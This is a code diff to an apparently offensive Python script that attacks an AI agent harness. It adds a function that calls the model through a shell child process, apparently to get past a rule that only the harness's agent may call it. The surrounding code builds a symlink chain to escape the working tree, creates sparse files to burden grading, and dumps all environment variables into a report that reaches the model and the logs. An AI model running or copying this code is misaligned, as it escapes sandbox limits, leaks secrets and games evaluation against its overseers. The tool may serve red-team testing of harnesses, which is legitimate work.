@@ -229,6 +229,17 @@ def attack_model(urls: set[str], headers: dict, t: dict) -> dict:
     return out
 
 
+def attack_model_from_a_command(targets: str) -> dict:
+    """attack_model run the way a harness's shell tool runs a command: a child process under a shell
+    (run as the harness itself, this agent is the one process that may call)."""
+    cmd = f'"{sys.executable}" "{os.path.abspath(__file__)}" "{targets}" --model-calls; true'
+    try:
+        r = subprocess.run(["sh", "-c", cmd], capture_output=True, text=True, timeout=300)
+        return json.loads(r.stdout.strip().splitlines()[-1])
+    except (OSError, ValueError, IndexError, subprocess.TimeoutExpired) as e:
+        return {"error": f"{type(e).__name__}: {e}"[:300]}
+
+
 def attack_tree() -> dict:
     """Make grading pay: sparse files (60 MiB each, nothing on disk), a symlink chain out of the tree
     (each link inside on its own: polar_chain/b -> .., then polar_esc -> polar_chain/b/..)."""
@@ -338,6 +349,10 @@ def attack_history() -> dict:
 def main(argv: list[str]) -> int:
     t = json.loads(Path(argv[1]).read_text()) if len(argv) > 1 else {}
     home = os.environ.get("HOME", "/tmp")
+    if "--model-calls" in argv:  # the child of attack_model_from_a_command
+        urls, _, headers = discover(home)
+        print(json.dumps(attack_model(urls, headers, t)))
+        return 0
     sample, hacks = sample_of(home), t.get("hacks", [])
     if 2 <= sample < 2 + len(hacks):  # one hack of the code under test, alone
         print(json.dumps({"sample": sample, "code": attack_code(hacks[sample - 2])}))
@@ -350,7 +365,7 @@ def main(argv: list[str]) -> int:
         "files": attack_files(t),
         "history": attack_history(),
         "env": dict(os.environ),  # the tool output goes back to the model, hence to the log
-        "model": attack_model(urls, headers, t),
+        "model": attack_model_from_a_command(argv[1]) if len(argv) > 1 else {},
     }
     if t.get("grading", True):
         report["grading"] = attack_grading(t)
